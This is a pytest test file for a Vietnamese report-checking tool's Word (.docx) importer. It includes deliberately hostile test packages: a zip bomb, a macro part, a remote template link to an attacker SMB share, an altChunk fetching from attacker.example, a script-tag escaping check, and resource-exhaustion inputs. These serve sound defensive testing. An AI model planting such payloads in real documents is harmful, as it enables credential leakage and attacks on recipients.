"""A Word file is a submission (issue 17, part 2): `submissions/<agency-id>.docx` is read
through the importer into the same model; problems name places a Word user can find; the
package is untrusted; ownership and the job summary treat it like a `.md` report."""

from __future__ import annotations

import json
import shutil
import zipfile
from functools import partial
from pathlib import Path

import pytest
from docx import Document
from docx.enum.text import WD_BREAK
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from baocao import reporters
from baocao.campaign import load_campaign
from baocao.cli import main
from baocao.ownership import changed_file_problems, codeowners
from baocao.workspace import load_round
from conftest import ROOT
from wordmaker import add_part, word_report


@pytest.fixture
def word_ws(workspace: Path) -> Path:
    word_report(load_campaign(workspace), "bo-y-te", workspace / "submissions" / "bo-y-te.docx")
    return workspace


def lines_of(capsys) -> list[str]:
    return capsys.readouterr().out.splitlines()


def test_a_word_file_is_a_report_of_the_round(word_ws):
    rnd = load_round(word_ws)
    report = rnd.report("bo-y-te")
    assert report.submission.file == "submissions/bo-y-te.docx"
    assert report.status == "on_time" and report.ratio == 1.0  # signed: an issued report
    assert report.problems == []
    assert report.submission.meta["so_ky_hieu"] == "125/BC-TE"
    assert report.submission.meta["ngay_ban_hanh"] == "03/12/2024"
    assert report.submission.meta["lien_he"] == {
        "ho_ten": "Trần Thị Bình",
        "dien_thoai": "0982.190.626",
        "email": "binh@example.gov.vn",
    }
    assert report.submission.meta["nguoi_ky"] == {
        "ho_ten": "Nguyễn Văn An",
        "chuc_vu": "KT. BỘ TRƯỞNG / THỨ TRƯỞNG",
    }
    first = report.parts[2]
    assert first.content.startswith("Nội dung mục")


def test_problems_name_the_place_in_the_word_file_not_a_line(word_ws, capsys):
    path = word_ws / "submissions" / "bo-y-te.docx"
    extra = {4: ["Đoạn thứ hai.", "# Mục tự đặt", "Đoạn dưới mục tự đặt."]}
    word_report(load_campaign(word_ws), "bo-y-te", path, extra=extra)
    assert main(["--root", str(word_ws), "check"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == (
        'submissions/bo-y-te.docx: cảnh báo: Phần 1, mục II.2, tiêu đề "Mục tự đặt": Tiêu đề "Mục tự đặt" không khớp mục nào trong đề cương của cơ quan. Nội dung dưới tiêu đề này được tính vào mục "2. Chủ trì, phối hợp với Bộ Công Thương trong việc tăng cường công tác trao đổi, tiếp…".'
    )
    assert main(["--root", str(word_ws), "check", "--format", "github"]) == 0
    annotations = capsys.readouterr().out.splitlines()
    assert annotations[0].startswith(
        '::warning file=submissions/bo-y-te.docx,title=Tiêu đề::Phần 1, mục II.2, tiêu đề "Mục tự đặt": '
    )
    assert all("line=" not in a for a in annotations)  # on the file: a .docx has no lines


def test_a_signed_report_without_contact_is_an_error_saying_what_to_write(word_ws, capsys):
    path = word_ws / "submissions" / "bo-y-te.docx"
    word_report(load_campaign(word_ws), "bo-y-te", path, contact=False)
    assert main(["--root", str(word_ws), "check"]) == 1
    assert capsys.readouterr().out.splitlines()[0] == (
        'submissions/bo-y-te.docx: lỗi: Chưa có người liên hệ. Ở cuối văn bản thêm một dòng như "Người liên hệ: Trần Thị Bình, điện thoại 0982.190.626, thư điện tử binh@example.gov.vn".'
    )


def test_both_a_md_and_a_docx_for_one_agency_is_an_error(word_ws, capsys):
    shutil.copy(ROOT / "submissions" / "bo-cong-an.md", word_ws / "submissions" / "bo-cong-an.md")
    word_report(load_campaign(word_ws), "bo-cong-an", word_ws / "submissions" / "bo-cong-an.docx")
    assert main(["--root", str(word_ws), "check"]) == 1
    out = capsys.readouterr().out
    assert (
        "submissions/bo-cong-an.docx: lỗi: Cơ quan có cả tệp bo-cong-an.docx và tệp bo-cong-an.md; "
        "mỗi cơ quan chỉ nộp một tệp báo cáo. Xóa một trong hai tệp (tệp bo-cong-an.docx chưa được đọc)."
    ) in out
    assert load_round(word_ws).report("bo-cong-an").submission.file == "submissions/bo-cong-an.md"


def test_a_docx_named_after_no_agency_is_an_error(word_ws, capsys):
    shutil.copy(word_ws / "submissions" / "bo-y-te.docx", word_ws / "submissions" / "bao-cao.docx")
    assert main(["--root", str(word_ws), "check"]) == 1
    assert (
        'submissions/bao-cao.docx: lỗi: Tên tệp "bao-cao.docx" không phải mã của cơ quan nào trong đợt báo cáo.'
        in capsys.readouterr().out
    )


def test_an_old_word_file_sent_as_docx_says_to_save_it_as_docx_and_send_that(word_ws, capsys):
    """The sender has no command to run again with --convert (that is `baocao import`'s)."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # Word 97-2003
    (word_ws / "submissions" / "bo-y-te.docx").write_bytes(ole)
    assert main(["--root", str(word_ws), "check"]) == 1
    assert (
        "submissions/bo-y-te.docx: lỗi: bo-y-te.docx: đây là tệp Word 97-2003 (.doc), công cụ chỉ"
        " đọc được tệp .docx. Hãy mở tệp bằng Word hoặc LibreOffice, chọn Tệp > Lưu thành (Save"
        ' As) > Word Document (*.docx), rồi tải tệp .docx vừa lưu lên thay cho "bo-y-te.docx".'
    ) in lines_of(capsys)


def _bomb(path: Path) -> None:
    add_part(path, "word/media/zeros.bin", b"\0" * (30 * 1024 * 1024))


def _macro(path: Path) -> None:
    add_part(path, "word/vbaProject.bin", b"macro")


def _external(
    path: Path,
    mode: str = 'TargetMode="External"',
    target: str = "file://///attacker/share/t.dotm",
    kind: str = "attachedTemplate",
) -> None:
    with zipfile.ZipFile(path) as package:
        rels = package.read("word/_rels/document.xml.rels").decode("utf-8")
    link = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" {mode}/>'
    )
    add_part(
        path,
        "word/_rels/document.xml.rels",
        rels.replace("</Relationships>", link + "</Relationships>").encode("utf-8"),
    )


def _corrupt(path: Path) -> None:
    """The packed bytes of [Content_Types].xml spoiled: unpacking it fails (zlib)."""
    with zipfile.ZipFile(path) as package:
        info = package.getinfo("[Content_Types].xml")
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start : start + 40] = bytes(b ^ 0x55 for b in data[start : start + 40])
    path.write_bytes(bytes(data))


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (
            _corrupt,
            "bo-y-te.docx: tệp .docx bị hỏng, không mở được. Hãy mở tệp bằng Word, lưu lại dưới dạng .docx.",
        ),
        (
            _bomb,
            "bo-y-te.docx: tệp Word giải nén ra quá lớn (30,8 MB); không đọc tệp này. Hãy lưu lại bằng Word dưới dạng .docx.",
        ),
        (
            _macro,
            "bo-y-te.docx: tệp Word có macro hoặc điều khiển ActiveX; không nhận tệp loại này. Hãy lưu lại dưới dạng Word Document (*.docx), không phải .docm.",
        ),
        (
            _external,
            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
        ),
        (
            partial(_external, mode="TargetMode='External'"),
            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
        ),
        (
            partial(_external, mode='TargetMode = "External"'),
            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
        ),
        (
            partial(_external, mode='TargetMode="&#69;xternal"'),
            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
        ),
        (
            partial(_external, target="file://///attacker/relationships/hyperlink/t.dotm"),
            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
        ),
        (
            partial(_external, kind="image", target="file:///C:/Anh/bieu-do.png"),
            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
        ),
    ],
)
def test_an_untrusted_package_is_refused_with_a_reason(word_ws, capsys, spoil, message):
    spoil(word_ws / "submissions" / "bo-y-te.docx")
    assert main(["--root", str(word_ws), "check"]) == 1
    assert f"submissions/bo-y-te.docx: lỗi: {message}" in capsys.readouterr().out
    assert load_round(word_ws).report("bo-y-te").status == "invalid"


def test_a_file_too_large_is_refused(word_ws, capsys):
    path = word_ws / "submissions" / "bo-y-te.docx"
    with open(path, "ab") as handle:  # zip readers find the directory from the end
        handle.truncate(21 * 1024 * 1024)
    assert main(["--root", str(word_ws), "check"]) == 1
    assert "tệp Word quá lớn (21,0 MB, tối đa 20,0 MB)" in capsys.readouterr().out


def test_changed_list_checks_a_docx_like_a_md(word_ws, capsys):
    listing = word_ws / "changed.txt"
    listing.write_text("submissions/bo-y-te.docx\n", encoding="utf-8")
    assert (
        main(["--root", str(word_ws), "check", "--changed-list", str(listing), "--format", "json"])
        == 0
    )
    data = json.loads(capsys.readouterr().out)
    assert [a["file"] for a in data["agencies"]] == ["submissions/bo-y-te.docx"]


def test_ownership_applies_to_docx_as_to_md(campaign):
    account = "@nguyenvanmau-bca"  # an account of bo-cong-an
    assert changed_file_problems(campaign, ["submissions/bo-cong-an.docx"], account) == []
    [problem] = changed_file_problems(campaign, ["submissions/ubnd-ha-noi.docx"], account)
    assert problem.code == "ownership"
    assert "báo cáo của Ủy ban nhân dân thành phố Hà Nội" in problem.message
    assert "/submissions/bo-cong-an.docx @baocao-319/bo-cong-an" in codeowners(campaign)


def test_job_summary_shows_the_word_report_as_text_escaped(word_ws):
    word_report(
        load_campaign(word_ws),
        "bo-y-te",
        word_ws / "submissions" / "bo-y-te.docx",
        extra={0: ["Dòng có ```` bốn dấu và <script>alert(1)</script>."]},
    )
    rnd = load_round(word_ws)
    summary = reporters.markdown(rnd, rnd.problems)
    start = summary.index(
        "<details><summary>Nội dung tệp Word bo-y-te.docx (chuyển thành văn bản)</summary>"
    )
    block = summary[start:]
    assert "\n```text\n" in block  # fenced: nothing of the report is read as Markdown
    assert "[Đã viết] PHẦN 1. KẾT QUẢ THỰC HIỆN ĐỀ ÁN" in block
    assert "Dòng có \\`\\`\\`\\` bốn dấu và \\<script\\>alert(1)\\</script\\>." in block
    assert block.count("\n```\n") == 1


@pytest.mark.slow
def test_the_site_and_the_docx_show_a_word_report(word_ws, tmp_path):
    from docx import Document

    from baocao.docx import build_docx
    from baocao.site.build import build_site

    shutil.copy(ROOT / "mkdocs.yml", word_ws / "mkdocs.yml")
    shutil.copytree(ROOT / "docs", word_ws / "docs")
    word_report(
        load_campaign(word_ws),
        "bo-y-te",
        word_ws / "submissions" / "bo-y-te.docx",
        extra={1: ["a) Điểm a;", "đ) Điểm đ;", "e) Điểm e.", "3. Điểm ba, gõ tay trong Word."]},
    )
    rnd = load_round(word_ws)
    site = build_site(rnd, tmp_path / "site")
    page = (site / "co-quan" / "bo-y-te" / "index.html").read_text(encoding="utf-8")
    assert "<code>submissions/bo-y-te.docx</code>" in page
    assert "<p>đ) Điểm đ;</p>" in page
    assert "<p>3. Điểm ba, gõ tay trong Word.</p>" in page  # not "\3." nor a list renumbered
    merged = build_docx(rnd, tmp_path / "tong-hop.docx")
    texts = [p.text for p in Document(str(merged)).paragraphs]
    assert "đ) Điểm đ;" in texts and "e) Điểm e." in texts
    assert "3. Điểm ba, gõ tay trong Word." in texts


def _formatted_paragraph(path: Path) -> None:
    """Add to a Word report a paragraph with superscript, subscript, underline, strikethrough,
    a superscript Word split into two runs, and an underlined heading of the author's own."""
    from docx import Document

    doc = Document(str(path))
    anchor = next(p for p in doc.paragraphs if p.text.startswith("Nội dung mục"))
    paragraph = anchor.insert_paragraph_before("Diện tích kho 250 m")
    for text, kind in [
        ("2", "superscript"),
        (", khí CO", ""),
        ("2", "subscript"),
        (", chữ ", ""),
        ("gạch chân", "underline"),
        (", ", ""),
        ("bỏ đi", "strike"),
        (", năm 10", ""),
        ("1", "superscript"),
        ("0", "superscript"),
        (".", ""),
    ]:
        run = paragraph.add_run(text)
        if kind == "underline":
            run.underline = True
        elif kind == "strike":
            run.font.strike = True
        elif kind:
            setattr(run.font, kind, True)
    heading = anchor.insert_paragraph_before(style="Heading 4")
    heading.add_run("Mục riêng có ")
    heading.add_run("gạch chân").underline = True
    doc.save(str(path))


def test_superscript_underline_and_strikethrough_of_a_word_report_are_kept(word_ws, tmp_path):
    """ "250 m²" typed in Word as m + superscript 2 was "250 m2" on the site and in the DOCX;
    underline and strikethrough (text crossed out by its author) were lost the same way."""
    from docx import Document

    from baocao.docx import build_docx
    from baocao.site.build import build_site

    shutil.copy(ROOT / "mkdocs.yml", word_ws / "mkdocs.yml")
    shutil.copytree(ROOT / "docs", word_ws / "docs")
    _formatted_paragraph(word_ws / "submissions" / "bo-y-te.docx")
    rnd = load_round(word_ws)
    text = rnd.report("bo-y-te").submission.body
    assert (
        "\nDiện tích kho 250 m<sup>2</sup>, khí CO<sub>2</sub>, chữ <u>gạch chân</u>, "
        "<s>bỏ đi</s>, năm 10<sup>10</sup>.\n"
    ) in text
    assert "\n#### Mục riêng có gạch chân\n" in text  # a heading's text only, as with bold
    page = (build_site(rnd, tmp_path / "site") / "co-quan" / "bo-y-te" / "index.html").read_text(
        encoding="utf-8"
    )
    assert (
        "<p>Diện tích kho 250 m<sup>2</sup>, khí CO<sub>2</sub>, chữ <u>gạch chân</u>, "
        "<s>bỏ đi</s>, năm 10<sup>10</sup>.</p>"
    ) in page
    merged = build_docx(rnd, tmp_path / "tong-hop.docx")
    found = [p for p in Document(str(merged)).paragraphs if p.text.startswith("Diện tích kho")]
    assert len(found) == 2  # Part A and Part B
    runs = [
        (
            r.text,
            bool(r.font.superscript),
            bool(r.font.subscript),
            bool(r.underline),
            bool(r.font.strike),
        )
        for r in found[0].runs
        if r.text.strip()
    ]
    assert ("2", True, False, False, False) in runs
    assert ("2", False, True, False, False) in runs
    assert ("gạch chân", False, False, True, False) in runs
    assert ("bỏ đi", False, False, False, True) in runs
    assert ("10", True, False, False, False) in runs


def _patch(path: Path, part: str, old: str, new: str) -> None:
    """Replace the first `old` in a part of a .docx package by `new`."""
    with zipfile.ZipFile(path) as package:
        text = package.read(part).decode("utf-8")
    add_part(path, part, text.replace(old, new, 1).encode("utf-8"))


def _numbered(path: Path, start: str, fmt: str, ilvl: str = "0") -> None:
    """A last paragraph numbered by a list of the file's own: its start, format and level."""
    level = f'<w:lvl w:ilvl="{ilvl}"><w:start w:val="{start}"/><w:numFmt w:val="{fmt}"/><w:lvlText w:val="%{int(ilvl) + 1})"/></w:lvl>'
    lists = f'<w:abstractNum w:abstractNumId="90">{level}</w:abstractNum><w:num w:numId="90"><w:abstractNumId w:val="90"/></w:num>'
    _patch(path, "word/numbering.xml", "</w:numbering>", lists + "</w:numbering>")
    paragraph = f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{ilvl}"/><w:numId w:val="90"/></w:numPr></w:pPr><w:r><w:t>Điểm cuối.</w:t></w:r></w:p>'
    _patch(path, "word/document.xml", "<w:sectPr", paragraph + "<w:sectPr")


@pytest.mark.parametrize(
    ("start", "fmt", "ilvl"),
    [
        ("9" * 4000, "lowerLetter", "0"),  # "a" repeated start/26 times: no int fits
        (str(10**7), "upperRoman", "0"),  # one "M" per thousand
        ("1", "decimal", str(10**6)),  # every level above counted for the label
    ],
)
def test_a_list_number_or_level_out_of_words_range_is_bounded(word_ws, start, fmt, ilvl):
    path = word_ws / "submissions" / "bo-y-te.docx"
    _numbered(path, start, fmt, ilvl)
    report = load_round(word_ws).report("bo-y-te")
    [line] = [line for line in report.submission.body.split("\n") if "Điểm cuối." in line]
    assert len(line) < 2000
    if int(ilvl) > 8:  # Word has levels 0 to 8: no list level, no label
        assert line == "Điểm cuối."


def _table(path: Path, span: int, first: int) -> None:
    """A last table of three rows: `first` cells in the first row, one below; each cell spans."""
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>'
    rows = f"<w:tr>{cell * first}</w:tr>" + f"<w:tr>{cell}</w:tr>" * 2
    _patch(path, "word/document.xml", "<w:sectPr", f"<w:tbl>{rows}</w:tbl><w:sectPr")


def test_a_cell_spans_at_most_the_63_columns_of_a_word_table(word_ws):
    _table(word_ws / "submissions" / "bo-y-te.docx", 10**12, 1)  # a million million columns
    report = load_round(word_ws).report("bo-y-te")
    rows = [line for line in report.submission.body.split("\n") if line.startswith("| a |")]
    assert [row.count("|") for row in rows] == [63 + 1] * 3


def test_a_table_of_more_cells_than_a_report_table_is_refused_before_it_is_laid_out(
    word_ws, capsys
):
    _table(word_ws / "submissions" / "bo-y-te.docx", 63, 200)  # 3 rows of 12,600 columns
    assert main(["--root", str(word_ws), "check"]) == 1
    assert (
        "submissions/bo-y-te.docx: lỗi: bo-y-te.docx: một bảng trong tệp Word có 3 dòng × 12.600 cột"
        " = 37.800 ô, vượt giới hạn 20.000 ô. Hãy chia bảng thành nhiều bảng nhỏ, hoặc đưa vào tệp"
        " Excel đính kèm, rồi lưu lại."
    ) in capsys.readouterr().out


def test_a_long_chain_of_styles_based_on_each_other_reads_quickly(word_ws):
    """Each paragraph's style looked up through the styles it is based on: a file's own chain
    of 1,500 styles, each used by a paragraph, is followed only a few levels deep."""
    import time

    path = word_ws / "submissions" / "bo-y-te.docx"
    count = 1500
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:name w:val="s{i}"/>'
        f'<w:basedOn w:val="s{i - 1}"/></w:style>'
        for i in range(1, count)
    )
    _patch(path, "word/styles.xml", "</w:styles>", styles + "</w:styles>")
    paragraphs = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="s{i}"/></w:pPr><w:r><w:rPr><w:rStyle w:val="s{i}"/>'
        "</w:rPr><w:t>x</w:t></w:r></w:p>"
        for i in range(count)
    )
    _patch(path, "word/document.xml", "<w:sectPr", paragraphs + "<w:sectPr")
    start = time.monotonic()
    load_round(word_ws)
    assert time.monotonic() - start < 20  # 160 s when every chain was followed to its end


def _stored(path: Path, part: str, data: bytes) -> None:
    """Add a part to the package, every part stored unpacked (no zip-bomb ratio)."""
    with zipfile.ZipFile(path) as package:
        parts = {n: package.read(n) for n in package.namelist()}
    parts[part] = data
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as package:
        for name, content in parts.items():
            package.writestr(name, content)


@pytest.mark.parametrize("part", ["word/document.xml", "word/notes.dat"])
def test_word_text_unpacking_past_the_limit_is_refused_before_it_is_parsed(word_ws, capsys, part):
    """Parsing and reading take about a second and 50 MB a megabyte of Word's text (XML):
    bounded however the part is named, as the package's content types may name any part."""
    path = word_ws / "submissions" / "bo-y-te.docx"
    with zipfile.ZipFile(path) as package:
        document = package.read("word/document.xml").decode("utf-8")
    paragraphs = (
        "<w:p><w:r><w:t>Một đoạn.</w:t></w:r></w:p>" * 150_000
    )  # 6.9 MB, and the parts of the file
    _stored(path, part, document.replace("<w:sectPr", paragraphs + "<w:sectPr").encode("utf-8"))
    assert main(["--root", str(word_ws), "check"]) == 1
    assert (
        "submissions/bo-y-te.docx: lỗi: bo-y-te.docx: phần văn bản của tệp Word giải nén ra 7,5 MB,"
        " vượt giới hạn 5,0 MB. Báo cáo thường chỉ vài trăm KB: hãy bỏ phần chép thừa, đưa bảng"
        " số liệu dài vào tệp Excel đính kèm, rồi lưu lại."
    ) in capsys.readouterr().out


def test_the_text_read_from_a_word_file_has_the_limit_of_a_report_file(word_ws, capsys):
    path = word_ws / "submissions" / "bo-y-te.docx"
    with zipfile.ZipFile(path) as package:
        document = package.read("word/document.xml").decode("utf-8")
    long = document.replace("Nội dung mục", "Dài " * 300_000 + "Nội dung mục", 1)  # 1.5 MB
    _stored(path, "word/document.xml", long.encode("utf-8"))
    assert main(["--root", str(word_ws), "check"]) == 1
    assert (
        "submissions/bo-y-te.docx: lỗi: Văn bản đọc từ tệp Word dài 1.506.262 byte, vượt giới hạn"
        " 1.000.000 byte của một báo cáo."
    ) in capsys.readouterr().out


def test_text_boxes_inside_each_other_are_read_once(word_ws):
    """Each text box was read again for every box around it: 2**depth copies (a 3 KB file
    of 35 boxes never finished)."""
    box = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
    close = "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    inner = "<w:p><w:r><w:t>Chữ trong hộp.</w:t></w:r></w:p>"
    path = word_ws / "submissions" / "bo-y-te.docx"
    _patch(path, "word/document.xml", "<w:sectPr", box * 12 + inner + close * 12 + "<w:sectPr")
    report = load_round(word_ws).report("bo-y-te")
    assert report.submission.body.count("Chữ trong hộp.") == 1


def _footnotes(path: Path, notes: str) -> None:
    """A footnotes part of `notes` (w:footnote elements), and a last paragraph citing note 1."""
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    add_part(path, "word/footnotes.xml", f"<w:footnotes {w}>{notes}</w:footnotes>".encode())
    rel = (
        '<Relationship Id="rIdF" Target="footnotes.xml" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/footnotes"/>'
    )
    _patch(path, "word/_rels/document.xml.rels", "</Relationships>", rel + "</Relationships>")
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    override = f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/>'
    _patch(path, "[Content_Types].xml", "</Types>", override + "</Types>")
    cite = (
        '<w:p><w:r><w:t>Có chú thích.</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    )
    _patch(path, "word/document.xml", "<w:sectPr", cite + "<w:sectPr")


def _note(number: int, text: str, cites: list[int]) -> str:
    refs = "".join(f'<w:r><w:footnoteReference w:id="{c}"/></w:r>' for c in cites)
    return f'<w:footnote w:id="{number}"><w:p><w:r><w:t>{text}</w:t></w:r>{refs}</w:p></w:footnote>'


@pytest.mark.parametrize(
    ("notes", "expected"),
    [
        (_note(1, "Chú thích tự dẫn.", [1]), ["[^1]: Chú thích tự dẫn.[^1]"]),  # RecursionError
        (  # each note cites the next twice: 2**20 readings of the last
            "".join(_note(i, f"Chú {i}.", [i + 1, i + 1]) for i in range(1, 20))
            + _note(20, "Chú cuối.", []),
            [f"[^{i}]: Chú {i}.[^{i + 1}][^{i + 1}]" for i in range(1, 20)] + ["[^20]: Chú cuối."],
        ),
    ],
)
def test_a_footnote_is_read_once_however_often_it_is_cited(word_ws, notes, expected):
    _footnotes(word_ws / "submissions" / "bo-y-te.docx", notes)
    report = load_round(word_ws).report("bo-y-te")
    lines = report.submission.body.split("\n")
    assert [line for line in lines if line.startswith("[^")] == expected


def test_a_chunk_of_another_format_word_would_import_is_refused(word_ws, capsys):
    """An altChunk: HTML (or RTF) Word converts when it opens the file, fetching what it links;
    its text would be missing from the report."""
    path = word_ws / "submissions" / "bo-y-te.docx"
    html = '<html><body><p>Phần chèn.</p><img src="https://attacker.example/x.png"></body></html>'
    add_part(path, "word/chunk.html", html.encode("utf-8"))
    rel = (
        '<Relationship Id="rIdC" Target="chunk.html" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/aFChunk"/>'
    )
    _patch(path, "word/_rels/document.xml.rels", "</Relationships>", rel + "</Relationships>")
    override = '<Override PartName="/word/chunk.html" ContentType="text/html"/>'
    _patch(path, "[Content_Types].xml", "</Types>", override + "</Types>")
    r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    _patch(path, "word/document.xml", "<w:sectPr", f'<w:altChunk {r} r:id="rIdC"/><w:sectPr')
    assert main(["--root", str(word_ws), "check"]) == 1
    assert (
        "submissions/bo-y-te.docx: lỗi: bo-y-te.docx: tệp Word có phần nội dung chèn từ tệp khác"
        " (altChunk), Word chỉ chuyển thành văn bản khi mở tệp. Hãy mở tệp bằng Word rồi lưu lại"
        " dưới dạng .docx."
    ) in capsys.readouterr().out


@pytest.mark.parametrize("changed", ["bo-y-te.docx", "bo-y-te.md"])
def test_the_pull_request_check_sees_the_agency_s_other_file(word_ws, capsys, changed):
    """A Word file uploaded beside the agency's .md (or the reverse) fails the pull request's
    check, which reads only the changed file, as it fails the full check."""
    from baocao.blank_report import render_template

    campaign = load_campaign(word_ws)
    text = render_template(campaign, campaign.agency("bo-y-te"))
    (word_ws / "submissions" / "bo-y-te.md").write_text(text, encoding="utf-8")
    listing = word_ws / "changed.txt"
    listing.write_text(f"submissions/{changed}\n", encoding="utf-8")
    code = main(["--root", str(word_ws), "check", "--changed-list", str(listing)])
    out = capsys.readouterr().out
    assert code == 1
    assert (
        "submissions/bo-y-te.docx: lỗi: Cơ quan có cả tệp bo-y-te.docx và tệp bo-y-te.md; mỗi cơ"
        " quan chỉ nộp một tệp báo cáo. Xóa một trong hai tệp (tệp bo-y-te.docx chưa được đọc)."
    ) in out


def test_text_typed_in_word_shows_as_typed_not_as_markdown_entities_or_strikethrough(word_ws):
    """A Word report's text is read into Markdown: "&lt;" or "&#x202E;" typed in Word showed
    as "<" and as a right-to-left override (reversing what follows) on the site and in the
    DOCX, and "~~…~~" as struck-out text, as if its author had crossed it out."""
    import pypandoc

    from baocao.docx.pandoc import READER
    from baocao.site.sanitize import render_markdown

    typed = "Ký hiệu &lt;b&gt;, &amp;, &#x202E;số 0123 và ~~không gạch~~, AT&T."
    word_report(
        load_campaign(word_ws),
        "bo-y-te",
        word_ws / "submissions" / "bo-y-te.docx",
        extra={0: [typed]},
    )
    body = load_round(word_ws).report("bo-y-te").submission.body
    line = next(line for line in body.splitlines() if line.startswith("Ký hiệu"))
    html = render_markdown(line, "bo-y-te", "bo-y-te-p1", root_prefix="../../")
    assert html == f"<p>{typed.replace('&', '&amp;')}</p>\n"
    assert pypandoc.convert_text(line, "plain", format=READER, extra_args=["--wrap=none"]) == (
        typed + "\n"
    )


def test_word_s_lock_file_uploaded_by_mistake_is_not_offered_as_the_report(word_ws, capsys):
    """ "~$-y-te.docx" sits beside the report while Word has it open; uploaded instead of it,
    the check must not suggest renaming it to "bo-y-te.docx" (it has no content)."""
    lock = word_ws / "submissions" / "~$-y-te.docx"
    lock.write_bytes(b"\x0bNguyen Van A" + b"\x00" * 40)
    assert main(["--root", str(word_ws), "check", "--changed", "submissions/~$-y-te.docx"]) == 1
    assert lines_of(capsys)[0] == (
        'submissions/~$-y-te.docx: lỗi: Tệp "~$-y-te.docx" là tệp tạm mà Word tự tạo trong lúc'
        " một văn bản đang mở, không phải báo cáo (không có nội dung). Xóa tệp này khỏi yêu cầu"
        " gộp (đừng đổi tên nó); đóng văn bản trong Word rồi tải lên chính tệp báo cáo, tên đúng"
        ' mã cơ quan, ví dụ "bo-y-te.docx".'
    )


def _truncated_body(path: Path) -> None:
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts["word/document.xml"] = parts["word/document.xml"][:500]  # cut off: XML not closed
    with zipfile.ZipFile(path, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)


def _password(path: Path) -> None:  # Word's encrypted package: an OLE file, no zip
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptionInfo".encode("utf-16-le"))


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (
            _truncated_body,
            "bo-y-te.docx: tệp .docx bị hỏng, không mở được. Hãy mở tệp bằng Word, lưu lại dưới dạng .docx.",
        ),
        (
            _password,
            "bo-y-te.docx: tệp được bảo vệ bằng mật khẩu nên không đọc được. Hãy mở tệp trong Word, bỏ mật khẩu (Tệp > Thông tin > Bảo vệ tài liệu > Mã hóa bằng mật khẩu, xóa mật khẩu), lưu lại rồi tải tệp lên lại.",
        ),
    ],
)
def test_a_sent_file_word_cannot_read_says_what_to_do_without_error_names_or_commands(
    word_ws, capsys, spoil, message
):
    """Not "(XMLSyntaxError) ... rồi chạy lại lệnh": the clerk has no command to run."""
    spoil(word_ws / "submissions" / "bo-y-te.docx")
    assert main(["--root", str(word_ws), "check"]) == 1
    assert f"submissions/bo-y-te.docx: lỗi: {message}" in lines_of(capsys)


def test_a_page_break_inside_a_paragraph_does_not_join_the_words_around_it(word_ws):
    """ "trước ngắt trang<page break>sau ngắt trang" (Ctrl+Enter) read "trangsau"."""
    path = word_ws / "submissions" / "bo-y-te.docx"
    doc = Document(str(path))
    para = next(p for p in doc.paragraphs if p.text.startswith("Nội dung mục 1. Tình hình"))
    para.add_run("Trước ngắt trang")
